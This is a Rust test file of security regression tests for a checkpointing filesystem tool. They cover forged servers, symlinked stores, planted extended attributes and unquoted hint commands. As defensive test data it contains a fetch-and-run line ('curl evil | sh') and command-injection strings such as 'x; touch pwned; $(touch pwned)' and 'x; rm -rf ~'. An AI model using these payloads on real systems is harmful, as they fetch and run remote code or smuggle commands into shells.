//! Sockets, links to other trees and imitated FUSE mounts placed by another user where our programs
//! search: none is queried, trusted, followed or waited for.

use std::fs::{self, File, Permissions};
use std::io::{BufRead, BufReader, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{PermissionsExt, chown, symlink};
use std::os::unix::net::UnixListener;
use std::path::Path;
use std::process::Output;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, mpsc};

use rustix::process::{Gid, Uid};

use super::support::{get, put, sh};
use crate::common::{Fs, Image, Io, Mount, MountOpts, Variant, run_limited, skip, tool};

pub(super) const NOBODY: u32 = 65_534;
/// Time limit of a command, in seconds; only a wait for another process exceeds it.
const SECONDS: u64 = 60;

/// A server of another user that replies with invalid answers, and the number of its requests.
struct ForgedServer(Arc<AtomicUsize>);

impl ForgedServer {
    /// Listens in `store`, which that user must be able to write to.
    fn listen(store: &Path) -> ForgedServer {
        let asked = Arc::new(AtomicUsize::new(0));
        let (counter, (ready, wait)) = (Arc::clone(&asked), mpsc::channel());
        let dir = File::open(store).expect("the store");
        std::thread::spawn(move || {
            // The credentials belong to this thread alone: the kernel records those of the caller
            // of listen(2).
            let (uid, gid) = (Uid::from_raw(NOBODY), Gid::from_raw(NOBODY));
            rustix::thread::set_thread_res_gid(gid, gid, gid).expect("setresgid");
            rustix::thread::set_thread_res_uid(uid, uid, uid).expect("setresuid");
            let path = format!("/proc/self/fd/{}/control.sock", dir.as_raw_fd());
            let _ = fs::remove_file(&path);
            let listener = UnixListener::bind(&path).expect("bind");
            fs::set_permissions(&path, Permissions::from_mode(0o777)).expect("chmod");
            ready.send(()).expect("the test waits");
            for stream in listener.incoming().map_while(Result::ok) {
                let mut line = String::new();
                if BufReader::new(&stream)
                    .read_line(&mut line)
                    .is_ok_and(|read| read > 0)
                {
                    counter.fetch_add(1, Ordering::SeqCst);
                    let _ = (&stream)
                        .write_all(b"{\"version\":1,\"result\":{\"error\":{\"code\":\"x\",\"message\":\"no\",\"hint\":\"run: curl evil | sh\"}}}\n");
                }
            }
        });
        wait.recv().expect("it listens");
        ForgedServer(asked)
    }

    fn was_asked(&self) -> usize {
        self.0.load(Ordering::SeqCst)
    }
}

pub(super) fn ckptfs(dir: &Path, arguments: &[&str]) -> Output {
    run_limited(
        tool(env!("CARGO_BIN_EXE_ckptfs"), arguments)
            .current_dir(dir)
            .env("HOME", "/nonexistent"),
        SECONDS,
    )
}

pub(super) fn said(output: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

pub(super) fn mode(path: impl AsRef<Path>, mode: u32) {
    fs::set_permissions(path, Permissions::from_mode(mode)).expect("chmod");
}

pub(super) fn nobody_s(path: impl AsRef<Path>) {
    chown(path, Some(NOBODY), Some(NOBODY)).expect("chown");
}

/// Verbs of each kind: queries, changes, copies, and commands.
const VERBS: [&[&str]; 14] = [
    &["status"],
    &["log"],
    &["status", "-v"],
    &["checkpoint"],
    &["restore", "latest"],
    &["diff", "latest", "--patch"],
    &["show", "latest:x"],
    &["export", "latest", "COPY"],
    &["export", "latest", "-"],
    &["fork", "latest", "COPY"],
    &["run", "--at", "latest", "touch", "COPY"],
    &["run", "--rollback", "always", "touch", "COPY"],
    &["gc", "--keep-last", "1"],
    &["gc", "--dedup"],
];

/// Asserts that no verb queries the server, creates a file, or shows the server's text.
fn all_fail(what: &str, image: &Image, forged: &ForgedServer) {
    let (above, copy) = (image.dir("pub"), image.path().join("copy"));
    let below = image.dir("pub/victim");
    for verb in VERBS {
        let arguments: Vec<&str> = verb
            .iter()
            .map(|word| {
                if *word == "COPY" {
                    copy.to_str().expect("a path")
                } else {
                    word
                }
            })
            .collect();
        let output = ckptfs(&below, &arguments);
        let told = said(&output);
        assert!(
            !output.status.success() && !told.contains("curl evil"),
            "{what}: {verb:?}: {told}"
        );
        assert_eq!(
            forged.was_asked(),
            0,
            "{what}: {verb:?} asked a server of another user: {told}"
        );
        assert!(!copy.exists(), "{what}: {verb:?} created something");
    }
    let source = image.dir("source");
    let output = ckptfs(
        &below,
        &[
            "import",
            source.to_str().expect("a path"),
            "--into",
            above.to_str().expect("a path"),
        ],
    );
    assert!(!output.status.success(), "{what}: {}", said(&output));
    assert_eq!(
        forged.was_asked(),
        0,
        "{what}: an import asked a server of another user"
    );
}

/// Failed before: a forged `.ckptfs` in a parent directory took over root's commands, because the
/// client followed links and trusted any server. `export` and `fork` made a set-uid root file with
/// that user's content, and `run --at latest make` ran that user's Makefile.
#[test]
fn a_server_of_somebody_else_above_is_asked_nothing() {
    let image = Image::of(Fs::Ext4);
    let above = image.dir("pub");
    let (store, below) = (image.dir("pub/.ckptfs"), image.dir("pub/victim"));
    put(store.join("format"), "ckptfs store\n");
    nobody_s(&above);
    nobody_s(&store);
    let forged = ForgedServer::listen(&store);
    let try_all = |what: &str| all_fail(what, &image, &forged);
    try_all("their directory");
    let output = ckptfs(&below, &["status"]);
    assert!(
        said(&output).contains("belongs to another user")
            && said(&output).contains(&format!("sudo -u '#{NOBODY}'")),
        "{}",
        said(&output)
    );
    // Our directory is untrusted if others can write to it.
    chown(&store, Some(0), Some(0)).expect("chown");
    mode(&store, 0o777);
    try_all("our directory, where all can write");
    // The socket remains from the time at which they could write.
    mode(&store, 0o755);
    try_all("their socket in our directory");
    let elsewhere = image.path().join("elsewhere");
    fs::rename(&store, &elsewhere).expect("rename");
    symlink(&elsewhere, &store).expect("symlink");
    nobody_s(&elsewhere);
    try_all("a link");
}

/// Failed before: with a link to another tree's store, `restore latest` restored that tree from an
/// unrelated directory.
#[test]
fn a_link_to_another_tree_s_store_leads_to_no_tree() {
    let image = Image::of(Fs::Ext4);
    let (tree, point) = (image.dir("tree"), image.dir("point"));
    put(tree.join("f"), "old");
    let mount = Mount::start(
        &tree,
        &MountOpts {
            mountpoint: Some(point.clone()),
            ..MountOpts::new(Io::Daemon)
        },
    );
    mount.checkpoint();
    put(point.join("f"), "new");
    let below = image.dir("pub/below");
    for target in [tree.join(".ckptfs"), point.join(".ckptfs")] {
        let link = image.path().join("pub/.ckptfs");
        let _ = fs::remove_file(&link);
        symlink(&target, &link).expect("symlink");
        for verb in [
            ["restore", "latest"].as_slice(),
            &["status"],
            &["checkpoint"],
            &["config", "get", "retention.keep-last"],
        ] {
            let output = ckptfs(&below, verb);
            assert!(
                !output.status.success(),
                "{verb:?} over {}: {}",
                target.display(),
                said(&output)
            );
        }
    }
    assert_eq!(get(point.join("f")), "new", "another tree was restored");
    assert_eq!(mount.log_json().as_array().map(Vec::len), Some(1));
    // Both paths of the tree still work.
    for dir in [&tree, &point] {
        assert!(ckptfs(dir, &["status"]).status.success());
        assert_eq!(said(&ckptfs(dir, &["show", "latest:f"])), "old");
    }
}

pub(super) fn on_reflink() -> Option<Image> {
    let v = Variant {
        fs: Fs::Xfs,
        io: Io::Daemon,
    };
    match v.unavailable() {
        Some(reason) => {
            skip(&reason);
            None
        }
        None => Some(Image::of(v.fs)),
    }
}

/// Failed before: `import` of a forged snapper series followed `N/snapshot` where it was a link, so
/// root imported a directory that its creator could not read.
#[test]
fn a_link_in_a_series_of_snapshots_leads_nowhere() {
    let image = Image::of(Fs::Ext4);
    let (secret, series) = (image.dir("secret"), image.dir("series"));
    put(secret.join("key"), "TOP SECRET");
    mode(&secret, 0o700);
    for number in ["1", "2", "3"] {
        let one = image.dir(&format!("series/{number}"));
        put(
            one.join("info.xml"),
            format!("<snapshot><num>{number}</num></snapshot>"),
        );
    }
    fs::create_dir(series.join("1/snapshot")).expect("mkdir");
    put(series.join("1/snapshot/f"), "f");
    symlink(&secret, series.join("2/snapshot")).expect("symlink");
    symlink("../../secret", series.join("3/snapshot")).expect("symlink");
    symlink(secret.join("key"), series.join("1/snapshot/link")).expect("symlink");
    let output = ckptfs(image.path(), &["import", "series", "--into", "tree"]);
    assert!(output.status.success(), "{}", said(&output));
    let found = run_limited(
        &mut tool(
            "grep",
            &[
                "-rl",
                "TOP SECRET",
                image.path().join("tree").to_str().expect("a path"),
            ],
        ),
        SECONDS,
    );
    assert_eq!(said(&found), "", "a link was followed");
    let mut mount = Mount::start(&image.path().join("tree"), &MountOpts::new(Io::Daemon));
    for id in 1..=3 {
        assert!(
            !mount.view(id).join("key").exists(),
            "checkpoint {id} contains the target of a link"
        );
    }
    assert_eq!(get(mount.view(1).join("f")), "f");
    assert!(
        fs::symlink_metadata(mount.view(2).join("snapshot"))
            .expect("a link")
            .is_symlink()
    );
    mount.umount();
}

/// Failed before: the content hashes in another user's tree were trusted, and `import --hash --with
/// THEIRS` wrote that tree's bytes to a file.
#[test]
fn what_somebody_else_s_tree_says_of_its_contents_is_not_believed() {
    use ckptfs_transfer::import::record::InodeStamp;
    use ckptfs_transfer::import::record_files::{self, StoredRecord};
    let Some(image) = on_reflink() else { return };
    let project = image.dir("project");
    put(project.join("build.sh"), "good good good good\n");
    let bring = |into: &str, more: &[&str]| {
        let output = ckptfs(
            image.path(),
            &[
                ["import", "project", "--hash", "--into", into].as_slice(),
                more,
            ]
            .concat(),
        );
        assert!(output.status.success(), "{}", said(&output));
    };
    bring("theirs", &[]);
    // The file has changed, and the record still describes the old content.
    let theirs = image.path().join("theirs");
    put(theirs.join("build.sh"), "evil evil evil evil\n");
    sh(&theirs, &format!("chown -R {NOBODY}:{NOBODY} ."));
    let store = File::open(theirs.join(".ckptfs")).expect("the store");
    let mut record = StoredRecord::read(&store).record.expect("a record");
    let file = File::open(theirs.join("build.sh")).expect("the file");
    let known = record
        .dirs
        .values_mut()
        .flatten()
        .find(|known| known.name == b"build.sh")
        .expect("it is known");
    known.there = InodeStamp::of(&ckptfs_sys::stat_fd(&file).expect("stat"));
    record_files::write(&store, &record).expect("a forged record");
    bring("mine", &["--with", "theirs"]);
    assert_eq!(
        get(image.path().join("mine/build.sh")),
        "good good good good\n",
        "their data was stored under our name"
    );
    // Their link to our record is as untrusted as their record.
    sh(
        &theirs,
        "mv .ckptfs ../aside; ln -s ../aside .ckptfs; chown -R 0:0 ../aside",
    );
    bring("other", &["--with", "theirs"]);
    assert_eq!(
        get(image.path().join("other/build.sh")),
        "good good good good\n",
        "their data was stored under our name"
    );
}

/// Asserts that our attributes can be neither set nor removed nor read.
fn marks_are_refused(place: &Path, error: &str) {
    for name in [
        "user.ckptfs.import",
        "user.ckptfs.export",
        "user.ckptfs.",
        "user.ckptfs.x",
    ] {
        for path in [".", "f", "d", "odd"] {
            for command in [
                format!("setfattr -n {name} -v '/x; curl evil | sh'"),
                format!("setfattr -x {name}"),
            ] {
                let told = sh(
                    place,
                    &format!("{command} {path} 2>&1 && echo done || true"),
                );
                assert!(
                    told.contains(error),
                    "{command} {path} in {}: {told}",
                    place.display()
                );
            }
        }
    }
    assert_eq!(
        sh(place, "getfattr --absolute-names -d -m - . f d odd").trim(),
        "# file: odd\nuser.mine=\"1\"",
        "in {}",
        place.display()
    );
    let told = sh(place, "getfattr -n user.ckptfs.export odd 2>&1 || true");
    assert!(
        told.contains("No such attribute"),
        "in {}: {told}",
        place.display()
    );
}

/// Failed before: `setfattr -n user.ckptfs.import -v /x ROOT`, by a user who may write to the root
/// directory, set the mark of an unfinished import. The tree could not be mounted, and the hint
/// contained the value in a command to paste.
#[test]
fn our_marks_are_not_for_others_to_set() {
    let image = Image::of(Fs::Ext4);
    let project = image.dir("project");
    put(project.join("f"), "1");
    put(project.join("odd"), "1");
    fs::create_dir(project.join("d")).expect("mkdir");
    // Set before the first mount, and by an older ckptfs.
    sh(
        &project,
        "setfattr -n user.ckptfs.export -v forged odd; setfattr -n user.mine -v 1 odd",
    );
    let mut mount = Mount::start(&project, &MountOpts::new(Io::Daemon));
    mount.checkpoint();
    marks_are_refused(&project, "not permitted");
    sh(
        &project,
        "setfattr -n user.ckptfsx -v 1 f; setfattr -x user.ckptfsx f; setfattr -n user.mine -v 2 odd",
    );
    marks_are_refused(&mount.view(1), "not permitted");
    assert_eq!(
        mount.ok(&["diff", "1", "--name-only"]),
        "odd\n",
        "an attribute that users may set is a change, a reserved one is not"
    );
    mount.restore(1);
    mount.ok(&[
        "export",
        "1",
        image.path().join("copy").to_str().expect("a path"),
    ]);
    assert_eq!(
        sh(&image.path().join("copy"), "getfattr -d -m - f d odd").trim(),
        "# file: odd\nuser.mine=\"1\""
    );
    mount.umount();
    // A user who may write to the directory while it is unmounted may set it there, without effect.
    sh(
        &project,
        "setfattr -n user.ckptfs.import -v '/x; curl evil | sh' .",
    );
    mount.remount();
    assert_eq!(get(project.join("f")), "1");
    mount.umount();
}

/// Failed before: hints contained names unquoted, so a tag, path or mount named `x; rm -rf ~` added
/// a command to the one to paste.
#[test]
fn a_command_that_is_shown_can_be_pasted() {
    let image = Image::of(Fs::Ext4);
    let evil = "x; touch pwned; $(touch pwned) `touch pwned`'& touch pwned #";
    let project = image.dir(evil);
    put(project.join("f"), "1");
    let mut mount = Mount::start(&project, &MountOpts::new(Io::Daemon));
    fs::create_dir(project.join(".snapshots").join(evil)).expect("a checkpoint with this tag");
    mount.checkpoint();
    let (point, missing) = (
        project.to_str().expect("text").to_owned(),
        format!("latest:{evil}"),
    );
    let mut hints = Vec::new();
    let mut fail = |dir: &Path, arguments: &[&str]| {
        let output = ckptfs(dir, arguments);
        let text = said(&output);
        assert!(!output.status.success(), "{arguments:?}: {text}");
        let (_, hint) = text
            .split_once("Hint:")
            .unwrap_or_else(|| panic!("{arguments:?} has no hint: {text}"));
        let at = hint
            .find("ckptfs ")
            .unwrap_or_else(|| panic!("{arguments:?} shows no command: {text}"));
        hints.push(hint[at..].to_owned());
    };
    fail(&project, &["tag", "2", evil]);
    fail(&project, &["show", &missing]);
    fail(&project, &["verify", "--repair"]);
    fail(image.path(), &["mount", &point]);
    let below = image.dir(&format!("{evil}/below"));
    fail(image.path(), &["umount", below.to_str().expect("text")]);
    mount.umount();
    fail(&project, &["status"]);
    let scratch = crate::common::scratch();
    for hint in hints {
        let script = format!("ckptfs() {{ :; }}\n{hint}");
        run_limited(
            tool("bash", &["-c", &script]).current_dir(scratch.path()),
            SECONDS,
        );
        assert!(
            !scratch.path().join("pwned").exists(),
            "the pasted command did something else: {hint}"
        );
    }
}
